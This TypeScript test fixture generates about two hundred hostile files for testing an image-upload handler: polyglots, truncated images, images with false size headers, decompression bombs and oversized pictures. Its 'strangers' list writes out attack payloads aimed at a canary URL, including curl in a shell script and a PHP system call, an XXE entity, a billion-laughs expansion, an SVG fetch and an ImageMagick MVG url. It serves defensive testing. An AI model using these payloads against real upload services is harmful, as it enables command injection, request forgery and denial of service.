import { crc32 } from 'node:zlib';
import sharp, { type Sharp } from 'sharp';
import { gradient, phonePicture } from '#src/server/pictures/testing/makePicture.ts';

/** A file that somebody might send in place of a picture. */
export type HostileFile = { name: string; make: () => Buffer | Promise<Buffer> };

const latin1 = (text: string) => Buffer.from(text, 'latin1');
const flat = (width: number, height: number) => sharp({ create: { width, height, channels: 3, background: '#c99' } });
const good = () => gradient(320, 240);

/** Beginnings by which the formats of pictures are known. */
const beginnings = {
  JPEG: '\xff\xd8\xff\xe0\0\x10JFIF\0',
  PNG: '\x89PNG\r\n\x1a\n\0\0\0\rIHDR',
  WebP: 'RIFF\xff\xff\0\0WEBPVP8 ',
  AVIF: '\0\0\0\x20ftypavif\0\0\0\0avifmif1miaf',
} as const;

/** Files that are no pictures. `canary` is an address that nothing may ask for. */
const strangers = (canary: string): Readonly<Record<string, string>> => ({
  'a script': `#!/bin/sh\ncurl ${canary}\n`,
  'a page': `<!doctype html><script>fetch('${canary}')</script>`,
  'an SVG with a script': `<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('${canary}')"><script>1</script></svg>`,
  'an SVG that asks for a picture': `<svg xmlns="http://www.w3.org/2000/svg"><image href="${canary}"/></svg>`,
  'an entity from elsewhere': `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "${canary}">]><svg>&x;</svg>`,
  'entities without end': `<!DOCTYPE a [<!ENTITY a "aaaa">${'<!ENTITY b "&a;&a;&a;&a;">'.repeat(40)}]><svg>&b;</svg>`,
  'a PDF': `%PDF-1.7\n1 0 obj<</OpenAction<</S/URI/URI(${canary})>>>>endobj`,
  'a program': '\x7fELF\x02\x01\x01\0',
  'another program': 'MZ\x90\0\x03',
  'an archive': 'PK\x03\x04\x14\0',
  'a compressed file': '\x1f\x8b\x08\0\0\0',
  'a film': '\0\0\0\x18ftypisom\0\0\0\0isomavc1',
  'a HEIC': '\0\0\0\x18ftypheic\0\0\0\0mif1heic',
  'a PHP page': `<?php system("curl ${canary}"); ?>`,
  'an EPS': `%!PS-Adobe-3.0\n(|curl ${canary}) (r) file\n`,
  'an MVG': `push graphic-context\nimage over 0,0 0,0 'url(${canary})'\n`,
  'a bitmap': 'BM\x36\0\0\0\0\0\0\0',
  'a font': '\0\x01\0\0\0\x0c\0\x80',
  'a module': '\0asm\x01\0\0\0',
  'a text': 'This is no picture.',
});

function polyglots(canary: string): HostileFile[] {
  return Object.entries(strangers(canary)).flatMap(([name, text]) => [
    { name, make: () => latin1(text) },
    ...Object.entries(beginnings).map(([format, beginning]) => ({
      name: `${name} that begins as a ${format}`,
      make: () => latin1(beginning + text),
    })),
    { name: `${name} behind a JPEG`, make: async () => Buffer.concat([await good().jpeg().toBuffer(), latin1(text)]) },
  ]);
}

const formats = ['jpeg', 'png', 'webp', 'avif'] as const;

function damaged(): HostileFile[] {
  return formats.flatMap((format) => {
    const whole = () => good().toFormat(format).toBuffer();
    const cut = [0.02, 0.1, 0.2, 0.4, 0.6, 0.8, 0.98].map((share) => ({
      name: `${share * 100} % of a ${format}`,
      make: async () => (await whole()).subarray(0, Math.ceil((await whole()).length * share)),
    }));
    const flipped = [30, 101, 307].map((every) => ({
      name: `a ${format} with every ${every}th byte changed`,
      make: async () => (await whole()).map((byte, at) => (at > 40 && at % every === 0 ? byte ^ 0x55 : byte)),
    }));
    return [...cut, ...flipped.map(({ name, make }) => ({ name, make: async () => Buffer.from(await make()) }))];
  });
}

/** A PNG whose header says another size. */
async function lyingPng(width: number, height: number): Promise<Buffer> {
  const file = await good().png().toBuffer();
  file.writeUInt32BE(width, 16);
  file.writeUInt32BE(height, 20);
  file.writeUInt32BE(crc32(file.subarray(12, 29)), 29);
  return file;
}

/** A JPEG whose header says another size. */
async function lyingJpeg(width: number, height: number): Promise<Buffer> {
  const file = await good().jpeg().toBuffer();
  const at = file.indexOf(Buffer.from([0xff, 0xc0]));
  file.writeUInt16BE(height, at + 5);
  file.writeUInt16BE(width, at + 7);
  return file;
}

/** A PNG with a compressed note that is a thousand times its size. */
async function notedPng(kind: 'tEXt' | 'zTXt' | 'iTXt'): Promise<Buffer> {
  const { deflateSync } = await import('node:zlib');
  const file = await good().png().toBuffer();
  const content =
    kind === 'zTXt' ? deflateSync(Buffer.alloc(60_000_000, 65)) : latin1('Zyxnote <script>alert(1)</script>');
  const data = Buffer.concat([
    latin1(`${kind}Comment\0${kind === 'iTXt' ? '\0\0\0\0' : kind === 'zTXt' ? '\0' : ''}`),
    content,
  ]);
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(data.length - 4);
  sum.writeUInt32BE(crc32(data));
  return Buffer.concat([file.subarray(0, 33), length, data, sum, file.subarray(33)]);
}

const large = (name: string, picture: () => Sharp): HostileFile => ({ name, make: () => picture().toBuffer() });

function sizes(): HostileFile[] {
  return [
    ...[1, 2, 16, 199, 200].map((edge) => large(`${edge} × ${edge} pixels`, () => flat(edge, edge).png())),
    large('a line', () => flat(60_000, 1).png()),
    large('12 million pixels', () => flat(4000, 3000).jpeg()),
    large('50 million pixels', () => flat(8660, 5774).jpeg()),
    large('100 million pixels', () => flat(10_000, 10_000).jpeg()),
    large('100 million pixels as PNG', () => flat(10_000, 10_000).png({ compressionLevel: 9 })),
    large('100 million pixels as WebP', () => flat(16_000, 6250).webp({ effort: 0 })),
    large('25 million pixels as AVIF', () => flat(5000, 5000).avif({ effort: 0 })),
    large('8 million pixels as WebP, turned', () =>
      flat(2900, 2900).webp({ effort: 0 }).withMetadata({ orientation: 6 }),
    ),
    large('4 million pixels as AVIF', () => flat(2040, 2040).avif({ effort: 0 })),
    large('5 million pixels, progressive, turned', () =>
      flat(2400, 2300).jpeg({ progressive: true }).withMetadata({ orientation: 8 }),
    ),
    large('11 million pixels, interlaced', () => flat(3300, 3300).png({ progressive: true })),
    large('36 million pixels, progressive', () => flat(6000, 6000).jpeg({ progressive: true })),
    large('100 million pixels, progressive', () => flat(10_000, 10_000).jpeg({ progressive: true })),
    large('36 million pixels, interlaced', () => flat(6000, 6000).png({ progressive: true })),
    { name: 'a PNG that says it is 65000 × 65000', make: () => lyingPng(65_000, 65_000) },
    { name: 'a PNG that says it is 2000000000 wide', make: () => lyingPng(2_000_000_000, 2) },
    { name: 'a PNG that says it is 0 wide', make: () => lyingPng(0, 300) },
    { name: 'a JPEG that says it is 65000 × 65000', make: () => lyingJpeg(65_000, 65_000) },
    { name: 'a JPEG that says it is 10000 × 10000', make: () => lyingJpeg(10_000, 10_000) },
  ];
}

function notes(): HostileFile[] {
  const held = [1, 2, 3, 4, 5, 6, 7, 8].map((way) => ({
    name: `a photograph with its place, held in way ${way}`,
    make: () => phonePicture(640, 480, way),
  }));
  const noted = (['tEXt', 'zTXt', 'iTXt'] as const).map((kind) => ({
    name: `a PNG with a ${kind}`,
    make: () => notedPng(kind),
  }));
  const sizesOfNotes = [1000, 60_000].map((length) => ({
    name: `a JPEG with ${length} bytes of Exif`,
    make: () =>
      good()
        .jpeg()
        .withExif({ IFD0: { ImageDescription: 'Zyxnote '.repeat(length / 8) } })
        .toBuffer(),
  }));
  const kinds = (['webp', 'avif', 'png'] as const).map((format) => ({
    name: `a ${format} with its place`,
    make: () =>
      good()
        .withExif({ IFD0: { Model: 'Zyxphone' }, IFD3: { GPSLatitudeRef: 'N' } })
        .toFormat(format)
        .toBuffer(),
  }));
  return [...held, ...noted, ...sizesOfNotes, ...kinds];
}

const frames = (count: number, format: 'webp' | 'gif') => async () => {
  const pictures = await Promise.all(
    Array.from({ length: count }, (_, at) =>
      flat(300, 300)
        .tint({ r: at * 4, g: 90, b: 90 })
        .png()
        .toBuffer(),
    ),
  );
  return sharp(pictures, { join: { animated: true } })
    .toFormat(format)
    .toBuffer();
};

function moving(): HostileFile[] {
  return [2, 20, 60].flatMap((count) => [
    { name: `${count} pictures that move, as WebP`, make: frames(count, 'webp') },
    { name: `${count} pictures that move, as GIF`, make: frames(count, 'gif') },
  ]);
}

/** Two hundred of them: the same at every run. */
export function hostilePictures(canary: string): HostileFile[] {
  const others = [...sizes(), ...notes(), ...moving(), ...damaged()];
  return [...others, ...polyglots(canary)].slice(0, 200);
}
